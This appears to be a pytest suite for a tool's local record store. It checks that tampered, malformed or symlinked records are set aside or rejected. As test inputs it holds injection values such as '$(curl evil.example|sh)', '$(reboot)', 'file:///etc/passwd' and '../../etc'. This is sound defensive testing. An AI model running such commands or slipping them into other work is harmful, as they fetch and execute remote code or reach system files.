"""The store: sealed, typed records in `.flexforge/`, objects by digest, the stat cache outside."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
from pathlib import Path

import pytest

from flexforge.errors import FlexforgeError
from flexforge.records import seal
from flexforge.store import JournalEntry, KeyRecord, LedgerEntry, Store

KEY = "a" * 64
OTHER = "b" * 64


def entry(**overrides: object) -> JournalEntry:
    values: dict[str, object] = {
        "asset": "hero",
        "key": KEY,
        "provider": "bfl",
        "task_id": "0b7f3c1e-5b2d-4f6a-8c0e-1234567890ab",
        "polling_url": "https://api.eu.bfl.ai/v1/get_result?id=0b7f3c1e",
        "submitted_at": 1.5,
    }
    values.update(overrides)
    return JournalEntry(**values)  # type: ignore[arg-type]


@pytest.fixture
def warnings() -> list[str]:
    return []


@pytest.fixture
def store(tmp_path: Path, warnings: list[str]) -> Store:
    root = tmp_path / "repo"
    root.mkdir()
    return Store(root / ".flexforge", warn=warnings.append)


def test_a_journal_entry_round_trips(store: Store) -> None:
    store.journal_put(entry())
    assert store.journal_get(KEY) == entry()
    assert store.journal_entries() == [entry()]
    store.journal_remove(KEY)
    assert store.journal_get(KEY) is None


def test_a_journal_entry_filed_under_another_key_is_set_aside(store: Store, warnings: list[str]) -> None:
    """A journal entry filed under another asset's key put that asset's picture in the lock."""
    store.journal_put(entry())
    journal = store.dir / "journal"
    os.replace(journal / f"{KEY}.json", journal / f"{OTHER}.json")
    assert store.journal_get(OTHER) is None
    assert (journal / "set-aside" / f"{OTHER}.json").is_file()
    assert any(f".flexforge/journal/{OTHER}.json" in w and "set-aside" in w for w in warnings)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("task_id", "$(curl evil.example|sh)"),
        ("task_id", "id with spaces"),
        ("task_id", 42),
        ("polling_url", "file:///etc/passwd"),
        ("polling_url", "https://api.bfl.ai/v1/get_result?id=1\nX-Injected: 1"),
        ("submitted_at", "yesterday"),
        ("cost_credits", -5),
        ("asset", "../../etc"),
        ("provider", "Bad Provider"),
    ],
)
def test_a_journal_entry_of_the_wrong_shape_is_set_aside_not_trusted(
    store: Store, warnings: list[str], field: str, value: object
) -> None:
    body: dict[str, object] = dataclasses.asdict(entry())
    body[field] = value
    path = store.dir / "journal" / f"{KEY}.json"
    path.parent.mkdir(parents=True)
    path.write_bytes(seal("journal", KEY, body))  # sealed on this machine, still refused
    assert store.journal_get(KEY) is None
    assert not path.exists() and (path.parent / "set-aside" / path.name).exists()
    assert warnings and f".flexforge/journal/{KEY}.json" in warnings[0]


@pytest.mark.parametrize(
    "raw",
    [
        b"[" * 100_000 + b"]" * 100_000,  # deep nesting
        b'{"v": 1, "mac": "00", "body": {"asset": "hero"}}',  # not sealed here
        b"\xff\xfe garbage",
        b'{"v": 1, "mac": 7, "body": []}',
        b"x" * 200_000,  # larger than any record
    ],
)
def test_hostile_journal_bytes_are_set_aside_without_a_crash(
    store: Store, warnings: list[str], raw: bytes
) -> None:
    path = store.dir / "journal" / f"{KEY}.json"
    path.parent.mkdir(parents=True)
    path.write_bytes(raw)
    assert store.journal_get(KEY) is None
    assert len(warnings) == 1


def test_a_journal_entry_is_checked_before_it_is_written(store: Store) -> None:
    from flexforge.records import RecordError

    with pytest.raises(RecordError):
        store.journal_put(entry(task_id="$(reboot)"))


def test_key_records_need_their_object_and_a_seal(store: Store, warnings: list[str]) -> None:
    sha = store.put_object(b"image bytes")
    record = KeyRecord(sha, 11, "bfl", 7, "task-1", 0.03)
    store.put_key_record(KEY, record)
    assert store.key_record(KEY) == record
    store.object_path(sha).unlink()
    assert store.key_record(KEY) is None
    (store.dir / "keys" / f"{OTHER}.json").write_text(json.dumps({"sha256": sha}))
    assert store.key_record(OTHER) is None
    assert "not a flexforge record" in warnings[0]


def test_a_damaged_object_is_dropped_not_restored(store: Store) -> None:
    sha = store.put_object(b"image bytes")
    store.object_path(sha).write_bytes(b"other bytes")
    assert store.read_object(sha) is None
    assert not store.object_path(sha).exists()


def test_an_object_that_is_a_link_is_not_read(store: Store, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_bytes(b"the user's private key")
    sha = hashlib.sha256(secret.read_bytes()).hexdigest()
    store.ensure()
    (store.dir / "objects" / sha[:2]).mkdir(parents=True)
    store.object_path(sha).symlink_to(secret)
    assert not store.has_object(sha)
    assert store.read_object(sha) is None


def test_the_ledger_keeps_only_sealed_lines(store: Store) -> None:
    spend = LedgerEntry(1.0, "hero", KEY, "bfl", "task-1", 0.05, 5.0)
    store.ledger_append(spend)
    with (store.dir / "ledger.jsonl").open("ab") as f:
        f.write(b'{"asset": "hero", "cost_usd": 1000}\n{"torn')
    assert store.ledger() == [spend]


def test_the_ledger_is_never_written_through_a_link(store: Store, tmp_path: Path) -> None:
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("")
    store.ensure()
    (store.dir / "ledger.jsonl").symlink_to(bashrc)
    with pytest.raises(OSError):
        store.ledger_append(LedgerEntry(1.0, "hero", KEY, "bfl", "task-1", 0.05))
    assert bashrc.read_text() == ""


def test_a_non_finite_cost_never_reaches_a_record(store: Store) -> None:
    from flexforge.records import RecordError

    with pytest.raises(RecordError):
        store.ledger_append(LedgerEntry(1.0, "hero", KEY, "bfl", "task-1", float("nan")))


def test_seeds_from_elsewhere_are_ignored(store: Store, warnings: list[str]) -> None:
    store.pin_seed("hero", 42)
    assert store.pinned_seeds() == {"hero": 42}
    (store.dir / "seeds.json").write_text(json.dumps({"hero": "1e309"}))
    assert store.pinned_seeds() == {}
    assert warnings


def test_a_linked_state_subfolder_is_a_clear_error(store: Store, tmp_path: Path) -> None:
    store.ensure()
    (store.dir / "objects").symlink_to(tmp_path, target_is_directory=True)
    with pytest.raises(FlexforgeError, match=r"\.flexforge/objects is a symbolic link"):
        store.put_object(b"x")


def test_the_stat_cache_lives_outside_the_repository(store: Store) -> None:
    (store.root / "a.txt").write_text("hello")
    store.digest("a.txt")
    store.save()
    assert (store.cache_dir / "stat-cache.json").is_file()
    assert not store.cache_dir.is_relative_to(store.root)
    assert not (store.dir / "stat-cache.json").exists()


def test_a_racy_stat_cache_entry_is_hashed_again(store: Store) -> None:
    """git's rule: an entry whose file is not older than the cache itself is not trusted."""
    path = store.root / "a.txt"
    path.write_text("hello")
    first = store.digest("a.txt")
    store.save()
    written = (store.cache_dir / "stat-cache.json").stat().st_mtime_ns
    before = path.stat()
    path.write_text("HELLO")  # same size
    os.utime(path, ns=(before.st_atime_ns, written))  # as if within the cache's clock tick
    again = Store(store.dir, warn=print)
    assert again.digest("a.txt") != first
